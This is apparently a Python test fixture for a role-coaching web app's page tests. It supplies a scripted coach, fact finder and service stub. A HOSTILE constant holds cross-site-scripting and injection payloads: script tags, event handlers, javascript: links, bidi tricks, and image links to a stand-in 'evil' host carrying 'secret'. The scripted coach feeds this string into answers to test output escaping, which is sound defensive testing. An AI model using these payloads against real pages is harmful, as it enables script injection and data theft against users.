"""A service for tests of the page: real store, real reader, real rules; the coach says what a script tells it to say."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import cache, cached_property
from pathlib import Path

from app.coaching.citing import Citations
from app.coaching.coach import TeamText, usable
from app.coaching.model import (
    Answer,
    Certainty,
    Event,
    Fact,
    FactValue,
    Finished,
    Kind,
    Origin,
    Passage,
    Progress,
    Quote,
    Reference,
    Sentence,
    SentenceKind,
    SentenceReady,
    Source,
    SourcesFound,
    Status,
    Timings,
)
from app.coaching.ports import Conversations
from app.coaching.team.advisor import Advisor
from app.coaching.team.report import Responsibility, TeamAdvice
from app.errors import ModelUnavailable
from app.knowledge.corpus import read_guides
from app.settings import Settings
from app.wiring import Service, ServiceState

REPOSITORY = Path(__file__).resolve().parents[2]
EVIL = "http://127.0.0.1:9/evil"  # nobody listens there; a request to it would still be seen
HOSTILE = (
    f"<script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\"><img src='{EVIL}.png'>"
    f"<iframe src='{EVIL}'></iframe><svg onload='window.pwned=1'></svg><a href='javascript:window.pwned=1'>js</a> "
    f"![x]({EVIL}.png?d=secret) ![y][ref] [link]({EVIL}) <{EVIL}> {EVIL}/auto www.evil.example a@evil.example "
    f"$\\frac{{1}}{{2}}$ $$x^2$$ :red[red] :material/home: :smile: :blue-background[b] `code` **bold** \x1b[31mansi\x07 "
    f"\u202etfel\u202c zero\u200bwidth \U000e0041tag </div></p></textarea>\"'>&amp; {{x.__class__}} {{{{y}}}}\n\n# heading\n\n"
    f"[ref]: {EVIL}.png"
)
SEVERAL = 8  # sentences of a slow answer


@dataclass
class ScriptedReply:
    """A reply that is written down; it keeps its turn just before `Finished`, as the real one does."""

    events: list[Event | float]
    answer: Answer
    conversation: str
    conversations: Conversations
    stopping: threading.Event = field(default_factory=threading.Event)

    def __iter__(self) -> Iterator[Event]:
        said: list[Sentence] = []
        for event in self.events:
            if isinstance(event, float):
                self.stopping.wait(event)
                continue
            if self.stopping.is_set():
                break
            if isinstance(event, SentenceReady):
                said.append(event.sentence)
            yield event
        from dataclasses import replace

        answer = replace(self.answer, sentences=tuple(said), stopped=self.stopping.is_set())
        yield Finished(self.conversations.keep(self.conversation, answer).answer)

    def stop(self) -> None:
        self.stopping.set()


class ScriptedCoach:
    """Answers by the first word of the question that it knows."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, tuple[TeamText, ...], tuple[Fact, ...]]] = []

    def ask(
        self,
        question: str,
        conversation: str,
        conversations: Conversations,
        *,
        documents: Sequence[TeamText] = (),
        told: Sequence[Fact] = (),
    ) -> ScriptedReply:
        text = usable(question)
        self.asked.append((text, tuple(documents), tuple(told)))
        if "boom" in text:
            raise RuntimeError("secret in /etc/secret/place")
        if "unavailable" in text:
            raise ModelUnavailable("The language model does not answer.", "Run `rolewise doctor`.")
        if "slow" in text:
            return self._slow(text, conversation, conversations)
        if "hostile" in text:
            return self._hostile(text, conversation, conversations)
        if "compare" in text:
            return self._compared(text, conversation, conversations)
        return self._plain(text, conversation, conversations)

    def _compared(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        sources = (a_source(1), a_source(2, title="Project manager", quote="A project manager watches the date."))
        sides = ["A project manager watches the date."] if "one-sided" not in text else []
        sentences = [
            Sentence(said, SentenceKind.ANSWER, Origin.GUIDE, (n,))
            for n, said in enumerate(["A product manager decides what is worth building.", *sides], start=1)
        ]
        made = an_answer(text, sources=sources, kind=Kind.COMPARE, subject=("product_manager", "project_manager"))
        return self._reply(made, sources, sentences, conversation, conversations, pause=0.0)

    def _plain(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        sources = (a_source(1), a_source(2, title="Project manager", quote="A project manager watches the date."))
        sentences = [
            Sentence("A product manager decides what is worth building.", SentenceKind.ANSWER, Origin.GUIDE, (1,)),
            Sentence("It weighs what people need against what it costs.", SentenceKind.ANSWER, Origin.MODEL, (1, 2)),
            Sentence("A small team may share the work.", SentenceKind.CONDITION, Origin.GUIDE, (2,)),
        ]
        made = an_answer(text, sources=sources, choices=("One supplier", "Several suppliers"), ask_back="How many suppliers?")
        return self._reply(made, sources, sentences, conversation, conversations, pause=0.0)

    def _slow(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        sources = (a_source(1),)
        sentences = [
            Sentence(f"Slow sentence {n} of {SEVERAL}.", SentenceKind.ANSWER, Origin.GUIDE, (1,)) for n in range(1, SEVERAL + 1)
        ]
        return self._reply(an_answer(text, sources=sources), sources, sentences, conversation, conversations, pause=0.35)

    def _hostile(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        works = (Reference(HOSTILE, HOSTILE, "javascript:window.pwned=1", HOSTILE),) * 2
        source = a_source(
            1, title=HOSTILE, section=HOSTILE, quote=HOSTILE, text=f"Before. {HOSTILE} After.", url="javascript:window.pwned=1",
            publisher=HOSTILE, licence=HOSTILE, reviewed=HOSTILE, references=works,
        )  # fmt: skip
        linked = a_source(2, url=f'{EVIL}?q="><script>window.pwned=1</script>', title="Linked")
        sentences = [
            Sentence(HOSTILE, kind, origin, (1, 7))
            for kind, origin in zip(SentenceKind, [Origin.MODEL, Origin.GUIDE, Origin.RULE, Origin.PERSON] * 2, strict=False)
        ]
        made = an_answer(
            text, sources=(source, linked), notices=(HOSTILE,), choices=(HOSTILE,), ask_back=HOSTILE, model=HOSTILE,
            status=Status.PARTLY_ANSWERED, kind=Kind.TEAM,
            understood=(Fact("team_size", HOSTILE),),
        )  # fmt: skip
        return self._reply(made, (source, linked), sentences, conversation, conversations, pause=0.0)

    def _reply(
        self, answer: Answer, sources: tuple[Source, ...], sentences: list[Sentence], conversation: str,
        conversations: Conversations, pause: float,
    ) -> ScriptedReply:  # fmt: skip
        events: list[Event | float] = [SourcesFound(sources), Progress("The model is putting it into words.")]
        for sentence in sentences:
            events += [pause, SentenceReady(sentence)] if pause else [SentenceReady(sentence)]
        return ScriptedReply(events, answer, conversation, conversations)


class ScriptedFinder:
    """Finds facts of a team by a few plain words, so that tests of the page do not rest on how well facts are found."""

    WORDS: tuple[tuple[str, str, FactValue], ...] = (
        (r"team of six", "team_size", 6),
        (r"team of seven", "team_size", 7),
        (r"two suppliers", "external_parties", 2),
        (r"no suppliers", "external_parties", 0),
        (r"release every (?:day|two weeks)", "delivery_rhythm", "regular"),
        (r"kept missing dates", "missed_dates", "repeated"),
        (r"Nobody chases", "blockers_unowned", True),
        (r"product owner decides", "priorities_owner", "product_owner"),
        (r"a product owner", "roles_present", ("product_owner",)),
        (r"budget report", "budget_reporting", True),
    )

    def facts(self, text: str) -> list[Fact]:
        if "very slow" in text:
            time.sleep(3.0)
        found = [(name, value, re.search(words, text)) for words, name, value in self.WORDS]
        return [
            Fact(name, value, Certainty.INFERRED if name == "missed_dates" else Certainty.STATED, (Quote(m[0], *m.span()),))
            for name, value, m in {name: (name, value, m) for name, value, m in found if m}.values()
        ]


class ScriptedDuties:
    """Says of four responsibilities what they are, and of one that it is not said."""

    def responsibilities(
        self, text: str, facts: Sequence[Fact], citations: Citations, passage_of: Callable[[str], Passage | None]
    ) -> tuple[Responsibility, ...]:
        at = text.find("Nobody chases")
        quotes = (Quote("Nobody chases", at, at + 13),) if at >= 0 else ()
        hostile = "pwned" in text
        return (
            Responsibility("priorities", "product", HOSTILE if hostile else "What comes first", "owned", ("product_owner",)),
            Responsibility("roadmap", "product", "The roadmap", "unknown"),
            Responsibility("schedule", "delivery", "The schedule", "doubled", ("team", "product_owner")),
            Responsibility(
                "blockers", "delivery", "Blockers", "unowned" if quotes else "unknown", (), quotes,
                f"{HOSTILE if hostile else ''}Share it: one of you asks every morning. Or hire for it." if quotes or hostile else "",
            ),
            Responsibility("estimates", "shared", "Estimates", "shared", ("team",)),
        )  # fmt: skip


class Shelf:
    """The passages of the shipped guides, without an index: enough for whoever looks them up by id."""

    version = "v1"

    def passage(self, passage_id: str) -> Passage | None:
        return shipped_passages().get(passage_id)


@cache
def shipped_passages() -> dict[str, Passage]:
    guides, _ = read_guides(REPOSITORY / "corpus" / "guides")
    return {passage.id: passage for guide in guides for passage in guide.passages}


class ScriptedService(Service):
    """The real service but for its coach, for what it reads out of a text, and for what it says about itself."""

    def __init__(self, settings: Settings, *, ready_after: float = 0.0, leaves_machine: str = "") -> None:
        super().__init__(settings)
        self.warmed = 0
        self.exported: list[tuple[str, bool]] = []
        self._leaving = leaves_machine
        self._ready_at = time.monotonic() + ready_after

    @cached_property
    def coach(self) -> ScriptedCoach:  # type: ignore[override]  # it has the one method that the page calls
        return ScriptedCoach()

    @cached_property
    def advisor(self) -> Advisor:
        return Advisor(
            rules=self.rules,
            finder=ScriptedFinder(),  # type: ignore[arg-type]  # each of the three has what the advisor calls
            duties=ScriptedDuties(),  # type: ignore[arg-type]
            retriever=Shelf(),  # type: ignore[arg-type]
            role_name=self.vocabulary.name,
        )

    def export(self, advice: TeamAdvice, form: str, *, shorten_names: bool) -> bytes:
        self.exported.append((form, shorten_names))
        return f"{form} of {advice.text_sha256[:8]}".encode()

    def warm(self) -> None:
        self.warmed += 1

    def state(self) -> ServiceState:
        ready = time.monotonic() >= self._ready_at
        return ServiceState(
            can_answer=ready,
            waiting_for="" if ready else "The guidance is being loaded.",
            model="scripted",
            model_ready=ready,
            model_problem="",
            leaves_machine=self._leaving,
            index_version="v1",
        )


def some_settings(data: Path, **changes: object) -> Settings:
    return Settings(data=data, models=data / "models", corpus=REPOSITORY / "corpus", llm="none", **changes)  # type: ignore[arg-type]


def a_source(n: int, **changes: object) -> Source:
    quote = str(changes.pop("quote", "A product manager decides what is worth building."))
    fields: dict[str, object] = {
        "n": n, "passage": f"guide#{n}", "document": "guide", "collection": "shipped", "title": "Product manager",
        "section": "What the role is for", "publisher": "Rolewise", "url": "https://guides.example/product-manager",
        "licence": "Apache-2.0", "reviewed": "2026-11-20", "quote": quote, "text": f"Before it. {quote} After it.", "score": 0.7,
    }  # fmt: skip
    return Source(**{**fields, **changes})  # type: ignore[arg-type]


def an_answer(question: str, **changes: object) -> Answer:
    fields: dict[str, object] = {
        "question": question, "kind": Kind.EXPLAIN, "status": Status.ANSWERED, "sentences": (), "model": "scripted",
        "index_version": "v1", "timings": Timings(120, 300, 900),
    }  # fmt: skip
    return Answer(**{**fields, **changes})  # type: ignore[arg-type]
